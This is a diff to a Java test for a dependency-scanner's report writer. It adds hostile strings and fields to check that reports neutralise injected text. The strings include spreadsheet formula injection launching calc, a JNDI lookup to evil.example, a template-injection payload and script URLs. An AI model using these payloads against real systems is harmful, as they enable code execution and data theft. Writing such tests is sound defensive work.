@@ -4,10 +4,15 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.packagefast.security.DeniedPackage;
 import dev.packagefast.security.ScanProblem;
 import dev.packagefast.security.ScanReport;
+import dev.packagefast.security.policy.Policy;
+import dev.packagefast.security.policy.PolicyFileException;
+import dev.packagefast.security.policy.PolicyNote;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.function.Consumer;
@@ -45,9 +50,24 @@ class HostileTextTest {
             "=cmd|'/c calc'!A1" + MARK,
             "{0} {{" + MARK + "}} ${jndi:ldap://evil.example}",
             "%0d%0a%3Cscript%3E" + MARK,
-            "javascript:alert(1)//" + MARK);
+            "javascript:alert(1)//" + MARK,
+            "-1+1|'" + MARK,
+            "\t@SUM(1)" + MARK,
+            "{{constructor.constructor('alert(1)')()}}<%= 1 %>" + MARK);
 
-    private static final List<String> PLACES = List.of("name", "project", "summary", "id", "alias", "link", "problem");
+    private static final List<String> PLACES = List.of(
+            "name",
+            "version",
+            "path",
+            "project",
+            "summary",
+            "id",
+            "alias",
+            "link",
+            "problem",
+            "exception",
+            "denied",
+            "note");
 
     private static final Pattern INVISIBLE =
             Pattern.compile("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069]");
@@ -95,9 +115,17 @@ class HostileTextTest {
         // A lockfile may not hold controls in a name; the reader tells of them as problems, which are tried too.
         String clean = INVISIBLE.matcher(nasty).replaceAll("").replace("\n", "");
         String name = place.equals("name") ? clean.replace("node_modules", "") : "old";
-        SampleScan sample = new SampleScan(folder, "app", place.equals("project") ? clean : "app");
-        sample.holds(name, "1.0.0");
+        // A file system takes every character but these two.
+        String file = place.equals("path") ? nasty.replace("/", "_").replace("\0", "_") : "app";
+        SampleScan sample = new SampleScan(folder, file, place.equals("project") ? clean : "app");
+        String version = place.equals("version") ? "1.0.0-" + clean : "1.0.0";
+        sample.holds(name, version);
         ObjectNode record = sample.advisory("GHSA-aaaa", name, "HIGH", "1.2.0");
+        if (place.equals("version")) {
+            record.withArray("affected")
+                    .forEach(affected ->
+                            ((ObjectNode) affected).putArray("versions").add(version));
+        }
         switch (place) {
             case "summary" -> record.put("summary", nasty).put("details", nasty);
             case "id" -> record.put("id", "X-" + clean);
@@ -115,15 +143,44 @@ class HostileTextTest {
         }
         sample.knows(record);
         ScanReport report = sample.report();
+        switch (place) {
+            case "exception" -> report = excepted(folder, clean, report);
+            case "denied" -> report = report.withDenied(List.of(new DeniedPackage(nasty, nasty, nasty)));
+            case "note" -> report = report.withNote(new PolicyNote(PolicyNote.Kind.EXPIRED, nasty, nasty, nasty));
+            default -> {
+                // Set above or below.
+            }
+        }
         if (place.equals("problem")) {
             report = new ScanReport(
                     report.files(),
                     report.packages(),
                     report.ecosystems(),
                     report.vulnerable(),
-                    List.of(new ScanProblem(nasty, nasty, nasty)));
+                    List.of(new ScanProblem(nasty, nasty, nasty)),
+                    report.inventories());
         }
         return sample.written(format, report);
+    }
+
+    private static ScanReport excepted(Path folder, String nasty, ScanReport report) throws IOException {
+        // TOML's basic strings have the escapes of JSON.
+        String text = SampleScan.JSON.writeValueAsString(nasty);
+        Path policy = Files.writeString(folder.resolve("pfsec.toml"), """
+                [[exception]]
+                id = "GHSA-aaaa"
+                package = "old"
+                expires = 2999-12-31
+                reason = %s
+                author = %s
+                """.replace("%s", text));
+        try {
+            ScanReport excepted = report.under(Policy.read(policy), SampleScan.NOW);
+            assertThat(excepted.excepted()).hasSize(1);
+            return excepted;
+        } catch (PolicyFileException refused) {
+            throw new AssertionError(text, refused);
+        }
     }
 
     private static JsonNode json(String text) {
@@ -191,7 +248,13 @@ class HostileTextTest {
             String rest = CODE.matcher(line).replaceAll("CODE");
             rest = OUR_LINK.matcher(rest).replaceAll("LINK");
             rest = OUR_AUTOLINK.matcher(rest).replaceAll("LINK");
-            for (String ours : List.of("<details><summary>Details</summary>", "</details>", "<sub>", "</sub>")) {
+            for (String ours : List.of(
+                    "<details><summary>Details</summary>",
+                    "<details><summary>Set aside by the policy: 1 finding</summary>",
+                    "<details><summary>About the policy: 1 note</summary>",
+                    "</details>",
+                    "<sub>",
+                    "</sub>")) {
                 rest = rest.replace(ours, "");
             }
             rest = rest.replace("**", "").replaceAll("&#\\d+;", "");
